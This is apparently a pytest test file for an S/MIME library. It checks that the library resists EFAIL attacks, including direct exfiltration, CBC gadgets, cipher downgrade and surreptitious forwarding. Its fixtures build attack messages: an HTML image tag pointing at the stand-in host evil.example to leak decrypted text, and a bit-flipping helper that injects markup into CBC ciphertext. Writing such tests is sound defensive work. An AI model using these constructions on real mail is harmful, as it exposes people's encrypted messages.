"""EFAIL (Poddebniak et al., 2018): decrypted text must not leave through what is around it.

RFC 8551, 6: "direct exfiltration" puts an encrypted part between parts of the attacker's;
"CBC gadgets" change the plaintext of a cipher that nobody authenticates.
"""

import base64
from collections.abc import Callable

import pytest

import smimekit
from smimekit import ContentChanged, Policy, Protection
from smimekit.message.layers import Encrypted, Signed
from tests.message.people import (
    ALICE,
    MALLORY,
    alice,
    as_part,
    bare_enveloped,
    bare_signed,
    bob,
    clear_signed,
    draft,
    encrypted_entity,
    entity,
    mallory,
    mime,
    multipart,
    signature_part,
    signed_entity,
    trust,
)

IMG = b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/'


def encrypted(signed: bool = False) -> bytes:
    return smimekit.encrypt(draft(), [bob().certificate], signer=alice() if signed else None)


@pytest.mark.parametrize("subtype", ["mixed", "related", "alternative", "parallel", "x-any"])
@pytest.mark.parametrize("signed", [False, True])
def test_an_encrypted_part_beside_others_is_never_opened(subtype: str, signed: bool) -> None:
    """RFC 9787, 4.5: a layer below anything that is no layer is errant, and
    "SHOULD NOT" be rendered as if it had protection. We do not even decrypt it.
    """
    mail = multipart(subtype, IMG, as_part(encrypted(signed)), b'Content-Type: text/html\r\n\r\n">')
    with smimekit.open(mail, keys=[bob()], trust=trust()) as opened:
        assert opened.envelope == ()
        assert opened.protection == Protection.NONE
        assert [each.kind for each in opened.errant] == ["encrypted"]
        payload = opened.payload(require=Protection.NONE).bytes()
        assert b"The plan" not in payload
        [errant] = opened.errant
        separately = smimekit.decrypt(errant.span.bytes(), [bob()]).bytes()
        assert separately == encrypted_entity()
    for required in (Protection.CONFIDENTIAL, Protection.VERIFIED):
        with (
            smimekit.open(mail, keys=[bob()], trust=trust()) as opened,
            pytest.raises(smimekit.InsufficientProtection),
        ):
            opened.payload(require=required)
    with pytest.raises(smimekit.InsufficientProtection):
        smimekit.decrypt(mail, [bob()])
    with pytest.raises(smimekit.NotSigned):
        smimekit.verify(mail, trust(), keys=[bob()])


@pytest.mark.parametrize(
    "hide",
    [lambda part: b"Content-Type: message/rfc822\r\n\r\nFrom: a@b.example\r\n" + part,
     lambda part: multipart("related", part, sender=None, boundary="inner"),
     lambda part: b'Content-Type: multipart/digest; boundary="d"\r\n\r\n--d\r\n\r\n'
                  + part + b"\r\n--d--",
     lambda part: part.replace(b"application/pkcs7-mime", b"application/octet-stream")],
    ids=["forwarded", "nested", "digest", "octet-stream"],
)  # fmt: skip
def test_wherever_it_hides(hide: Callable[[bytes], bytes]) -> None:
    """RFC 9787, 6.2.2: an errant encryption never makes the message an encrypted one, and what
    comes out of it is a MIME tree of its own; here it stays closed until somebody opens it.
    """
    mail = multipart("mixed", IMG, hide(as_part(encrypted())), b'Content-Type: text/html\r\n\r\n">')
    with smimekit.open(mail, keys=[bob()], trust=trust()) as opened:
        assert opened.envelope == ()
        [errant] = opened.errant
        assert errant.kind == "encrypted"
        assert b"The plan" not in opened.payload(require=Protection.NONE).bytes()
        assert smimekit.decrypt(errant.span, [bob()]).bytes() == encrypted_entity()


def test_two_secrets_are_not_put_together() -> None:
    """RFC 9787, 6.2.2 (multipart oracles): each is opened by itself, as a tree of its own, and
    has no parts but its own.
    """
    halves = [as_part(smimekit.encrypt(draft(text=text), [bob().certificate])) for text in "ab"]
    mail = multipart("mixed", IMG, *halves, entity("end"))
    with smimekit.open(mail, keys=[bob()], trust=trust()) as opened:
        assert [each.name for each in opened.errant] == ["2", "3"]
        found = [smimekit.decrypt(each.span, [bob()]).bytes() for each in opened.errant]
        assert found == [encrypted_entity("a"), encrypted_entity("b")]


def test_text_around_ciphertext_in_one_part() -> None:
    """RFC 9787, 6.2.3.2: what is not at a MIME boundary is not decrypted."""
    pem = b"-----BEGIN PKCS7-----\n" + encrypted().partition(b"\r\n\r\n")[2]
    pem += b"-----END PKCS7-----\n"
    for before, after in ((b"", b'">'), (b'<img src="http://evil.example/', b'">'), (b"", b"")):
        mail = b"From: m@evil.example\r\nContent-Type: text/html\r\n\r\n" + before + pem + after
        with smimekit.open(mail, keys=[bob()], trust=trust()) as opened:
            assert opened.envelope == ()
            assert opened.errant == ()
        with pytest.raises(smimekit.InsufficientProtection):
            smimekit.decrypt(mail, [bob()])


def test_a_signed_wrapper_does_not_open_it_either() -> None:
    """The attacker signs the multipart around the stolen ciphertext with a good certificate."""
    inside = multipart("mixed", IMG, as_part(encrypted()), entity("known"), sender=None)
    mail = smimekit.sign(b"From: mallory@evil.example\r\n" + inside, mallory())
    with smimekit.open(mail, keys=[bob()], trust=trust()) as opened:
        assert [type(layer) for layer in opened.envelope] == [Signed]
        assert [each.kind for each in opened.errant] == ["encrypted"]
        assert Protection.CONFIDENTIAL not in opened.protection
        assert b"The plan" not in opened.payload(require=Protection.VERIFIED).bytes()


def test_nor_does_an_encrypted_wrapper() -> None:
    inside = multipart("mixed", IMG, as_part(encrypted()), entity("known"), sender=None)
    mail = smimekit.encrypt(b"From: mallory@evil.example\r\n" + inside, [bob().certificate])
    with smimekit.open(mail, keys=[bob()], trust=trust()) as opened:
        assert [type(layer) for layer in opened.envelope] == [Encrypted]
        assert [each.kind for each in opened.errant] == ["encrypted"]
        assert b"The plan" not in opened.payload(require=Protection.CONFIDENTIAL).bytes()


def cbc_flip(mail: bytes, position: int, mask: bytes) -> bytes:
    """Flip bits of one plaintext block; the block before it becomes noise."""
    head, _, body = mail.partition(b"\r\n\r\n")
    cms = bytearray(base64.b64decode(body))
    # EnvelopedData in DER: the ciphertext is the last value.
    size = len(cms)
    start = size - ciphertext_size(mail)
    for at, bit in enumerate(mask):
        cms[start + position - 16 + at] ^= bit
    return head + b"\r\n\r\n" + base64.encodebytes(bytes(cms)).replace(b"\n", b"\r\n")


def ciphertext_size(mail: bytes) -> int:
    with smimekit.open(mail, keys=[bob()], trust=trust()) as opened:
        [layer, *_] = opened.envelope
        assert isinstance(layer, Encrypted)
        assert layer.content is not None
        return (len(layer.content) // 16 + 1) * 16


def test_a_cbc_gadget_is_not_intact() -> None:
    """RFC 8551, 2.7.2 and 6: CBC alone gives no integrity; what comes out is only that."""
    text = "A" * 16 * 8
    mail = smimekit.encrypt(draft(text=text), [bob().certificate])
    plain = encrypted_entity(text)
    position = (plain.index(b"AAAA") // 16 + 3) * 16
    mask = bytes(one ^ other for one, other in zip(b"A" * 16, b'<img src="//a.b/', strict=True))
    changed = cbc_flip(mail, position, mask)
    with smimekit.open(changed, keys=[bob()], trust=trust()) as opened:
        assert opened.protection == Protection.CONFIDENTIAL
        payload = opened.payload(require=Protection.CONFIDENTIAL)
        assert b'<img src="//a.b/' in payload.bytes()  # the attack works, and is named
        with pytest.raises(smimekit.InsufficientProtection, match="left alone"):
            opened.payload(require=Protection.INTACT)
        with pytest.raises(smimekit.InsufficientProtection):
            opened.payload(require=Protection.VERIFIED)


def test_a_cbc_gadget_in_what_is_signed_is_changed_content() -> None:
    text = "A" * 16 * 8
    mail = smimekit.encrypt(draft(text=text), [bob().certificate], signer=alice())
    with smimekit.open(mail, keys=[bob()], trust=trust()) as opened:
        outer = opened.envelope[0]
        plain = opened.inside(outer, require=Protection.VERIFIED).bytes()
    position = (plain.index(b"AAAAAAAA") // 16 + 3) * 16
    changed = cbc_flip(mail, position, b"\1" * 16)
    with smimekit.open(changed, keys=[bob()], trust=trust()) as opened:
        assert opened.protection == Protection.CONFIDENTIAL
        with pytest.raises(smimekit.InsufficientProtection, match="changed"):
            opened.payload(require=Protection.INTACT | Protection.VERIFIED)
    with pytest.raises(ContentChanged):
        smimekit.verify(changed, trust(), keys=[bob()])


def test_text_beside_the_signed_part_is_no_payload() -> None:
    """A gadget may build a multipart/signed around known, signed text, and leave the secret
    in its preamble: it must not come out as what was signed.
    """
    known = entity("known to the attacker")
    signature = bare_signed(known, mallory(), detached=True)
    secret = b"the secret of somebody else"
    inside = (
        b'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary=b\r\n'
        b"\r\n"
        + secret
        + b"\r\n--b\r\n"
        + known
        + b"\r\n--b\r\n"
        + signature_part(signature)
        + b"\r\n--b--\r\n"
        + secret
    )
    mail = mime(bare_enveloped(inside, bob()), "enveloped-data", MALLORY)
    with smimekit.open(mail, keys=[bob()], trust=trust()) as opened:
        assert Protection.INTACT in opened.protection
        assert opened.payload(require=Protection.INTACT).bytes() == known


def test_a_signature_around_the_gadget_does_not_make_it_intact() -> None:
    """The attacker signs the changed ciphertext: a good signature, outside."""
    mail = smimekit.encrypt(draft(MALLORY, "A" * 128), [bob().certificate])
    changed = smimekit.sign(cbc_flip(mail, 80, b"\1" * 16), mallory())
    with smimekit.open(changed, keys=[bob()], trust=trust()) as opened:
        assert opened.protection == Protection.CONFIDENTIAL


def test_gcm_renamed_to_cbc_does_not_decrypt() -> None:
    """RFC 5083, RFC 9709: AuthEnvelopedData moved into EnvelopedData, without its tag."""
    mail = smimekit.encrypt(draft(), [bob().certificate], policy=Policy.MODERN)
    cms = base64.b64decode(mail.partition(b"\r\n\r\n")[2])
    auth = bytes.fromhex("060b2a864886f70d0109100117")
    assert auth in cms
    renamed = cms.replace(auth, bytes.fromhex("06092a864886f70d010703"))
    with pytest.raises(smimekit.SmimeError):
        smimekit.decrypt(mime(renamed, "enveloped-data"), [bob()])


def test_surreptitious_forwarding() -> None:
    """RFC 9787, 5.2 and 9.1; Davis 2001: Bob takes Alice's signed message out of its encryption
    and encrypts it to Carol. The signature is Alice's and good, so Carol sees it verified: To is
    not covered without header protection. But a From of Bob's own is never verified by it.
    """
    inside = smimekit.sign(draft(), alice())
    forwarded = smimekit.encrypt(inside, [mallory().certificate])
    assert smimekit.verify(forwarded, trust(), keys=[mallory()]).bytes() == signed_entity()
    renamed = forwarded.replace(f"From: {ALICE}".encode(), f"From: {MALLORY}".encode())
    with pytest.raises(smimekit.WrongSender):
        smimekit.verify(renamed, trust(), keys=[mallory()])


def test_a_clear_part_is_no_way_around() -> None:
    """A clear-signed mail whose signed part holds ciphertext: triple wrapping, and no more."""
    inside = as_part(encrypted())
    mail = clear_signed(inside, bare_signed(inside, mallory(), detached=True), MALLORY)
    with smimekit.open(mail, keys=[bob()], trust=trust()) as opened:
        assert [type(layer) for layer in opened.envelope] == [Signed, Encrypted]
        assert opened.protection == Protection.CONFIDENTIAL
